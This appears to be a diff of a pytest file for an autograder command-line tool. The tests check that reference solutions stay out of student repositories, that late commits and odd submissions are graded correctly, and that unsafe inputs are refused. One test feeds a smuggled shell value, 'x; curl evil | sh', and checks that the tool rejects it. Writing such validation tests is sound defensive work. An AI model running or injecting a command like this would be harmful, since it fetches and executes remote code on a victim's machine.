@@ -135,6 +135,44 @@ def test_files_that_would_expose_the_seed_are_refused_with_the_reason(arguments,
     assert not (tmp_path / "out").exists()
 
 
+STUDENTS = [("github", "student"), ("gitlab", "student"), ("classroom50", None)]
+
+
+def test_gradient_rules_lie_in_no_students_repository(written):
+    """They come with the grader; a course's own are told of, since nothing else has them."""
+    for key, folder in written.items():
+        rules = [path for path in folder.rglob("reference/operations/mul.py")
+                 if "grader" not in path.parts]  # fmt: skip
+        assert bool(rules) == (key in SECRET_PLACES), key
+
+
+@pytest.mark.parametrize(("provider", "role"), STUDENTS)
+def test_a_courses_own_rules_go_along_and_are_told_of(provider, role, tmp_path):
+    course = tmp_path / "course"
+    for name in ("config.yaml", "reference", "source/05_autograd/tinytorch", "tests/public"):
+        copy = shutil.copytree if (COURSE / name).is_dir() else shutil.copy
+        (course / name).parent.mkdir(parents=True, exist_ok=True)
+        copy(COURSE / name, course / name)
+    with (course / "reference" / "operations" / "mul.py").open("a", encoding="utf-8") as file:
+        file.write("# ours\n")
+    arguments = ["--course", course, "ci", provider, "--into", tmp_path / "out",
+                 *NEEDED[provider], *(["--role", role] if role else [])]  # fmt: skip
+    done = CliRunner().invoke(main, [str(one) for one in arguments])
+    assert done.exit_code == 0, done.output
+    assert "students can read them" in done.output
+    assert list((tmp_path / "out").rglob("reference/operations/mul.py"))
+
+
+@pytest.mark.parametrize("grader", [".", "./grader", ".."])
+@pytest.mark.parametrize(("provider", "role"), STUDENTS)
+def test_a_folder_here_is_no_grader_for_a_students_repository(provider, role, grader, tmp_path):
+    done = autograder("ci", provider, "--into", tmp_path, "--grader", grader,
+                      *(["--role", role] if role else []))  # fmt: skip
+    assert done.exit_code == 2
+    assert "no student's repository has the grader" in done.output
+    assert not list(tmp_path.iterdir())
+
+
 def test_values_that_a_shell_could_misread_are_refused(tmp_path):
     done = autograder("ci", "github", "--into", tmp_path, "--grader", "x; curl evil | sh")
     assert done.exit_code == 2
@@ -142,7 +180,7 @@ def test_values_that_a_shell_could_misread_are_refused(tmp_path):
 
 def test_files_that_are_there_are_kept(tmp_path):
     write("github", "student", tmp_path)
-    done = autograder("ci", "github", "--into", tmp_path, "--grader", ".")
+    done = autograder("ci", "github", "--into", tmp_path, *NEEDED["github"])
     assert done.exit_code == 2
     assert "is there already" in done.output
 
@@ -272,9 +310,23 @@ def test_steps_of_the_instructors_workflow_grade_a_class(written, machine, tmp_p
     student.mkdir()
     notebook_into(student)
     git = "git -c user.name=a -c user.email=a@example.org"
-    made = shell(f"git init -q && git add -A && {git} commit -qm one", student, machine)
+    in_time = "GIT_COMMITTER_DATE=2026-03-01T10:00:00Z"
+    commands = f"git init -q && git add -A && {in_time} {git} commit -qm one"
+    made = shell(commands, student, machine)
     assert made.returncode == 0, made.stderr
-    lines = f"# who and where\nada file://{student}\neve file://{tmp_path}/nowhere\n"
+    late = "GIT_COMMITTER_DATE=2026-03-05T10:00:00Z"
+    more = f"git mv 05_autograd.ipynb late.ipynb && {late} {git} commit -qm two"
+    assert shell(more, student, machine).returncode == 0
+    nested = tmp_path / "bo"
+    (nested / "modules" / "05_autograd").mkdir(parents=True)
+    notebook_into(nested / "modules" / "05_autograd", "05_autograd_dev.ipynb")
+    assert shell(commands, nested, machine).returncode == 0
+    lines = (
+        f"# who and where\nada file://{student}\neve file://{tmp_path}/nowhere\nbo file://{nested}"
+    )
+    with (course / "config.yaml").open("a", encoding="utf-8") as file:
+        file.write("due: 2026-03-01 23:59 UTC\n")
+    (course / "roster.csv").write_text("id\nada\nbo\neve\n", encoding="utf-8")
     (course / "submissions.txt").write_text(lines, encoding="utf-8")
     action = yaml.safe_load((course / ".github/actions/grade/action.yml").read_text())
     workflow = yaml.safe_load((course / ".github/workflows/grade.yml").read_text())
@@ -287,12 +339,18 @@ def test_steps_of_the_instructors_workflow_grade_a_class(written, machine, tmp_p
         assert done.returncode == 0, f"{step}\n{done.stdout}\n{done.stderr}"
         if step.get("name") == "Fetch the submissions":
             assert "not fetched: eve" in done.stdout
-    assert "ada" in (course / "grades.csv").read_text(encoding="utf-8")
+        if step.get("name") == "Collect":
+            assert re.search(r"eve +unreadable", done.stdout)
+    grades = (course / "grades.csv").read_text(encoding="utf-8")
+    assert re.search(r'"ada".*"graded".*"2026-03-01T10:00:00', grades)  # the commit in time
+    assert re.search(r'"bo".*"graded"', grades)
     assert (course / "feedback" / "ada" / "05_autograd" / "05_autograd.html").is_file()
 
 
 def _evaluate(value, inputs):
     found = re.fullmatch(r"\$\{\{ (inputs|secrets)\.(\w+) \}\}", value)
+    if found is None:
+        return value
     return inputs[found[2]] if found[1] == "inputs" else f"the secret {found[2]}"
 
 
@@ -313,8 +371,12 @@ def test_gradescope_zip_is_set_up_and_grades(machine, tmp_path):
     pip = shell(f"python -m pip install --quiet {source}/grader", tmp_path, machine)
     assert pip.returncode == 0, pip.stderr
     (source / "venv").symlink_to(machine)  # what setup.sh makes, with packages that are here
+    first = root / "submission" / "a plan.ipynb"
+    first.write_text('{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}')
     done = shell(f"{source}/run_autograder", tmp_path, machine, **environment)
     assert done.returncode == 0, done.stdout + done.stderr
+    assert "another name.ipynb was taken" in done.stderr
+    first.unlink()
     document = json.loads((root / "results" / "results.json").read_text(encoding="utf-8"))
     assert document["score"] == 0
     assert len(document["tests"]) == 37
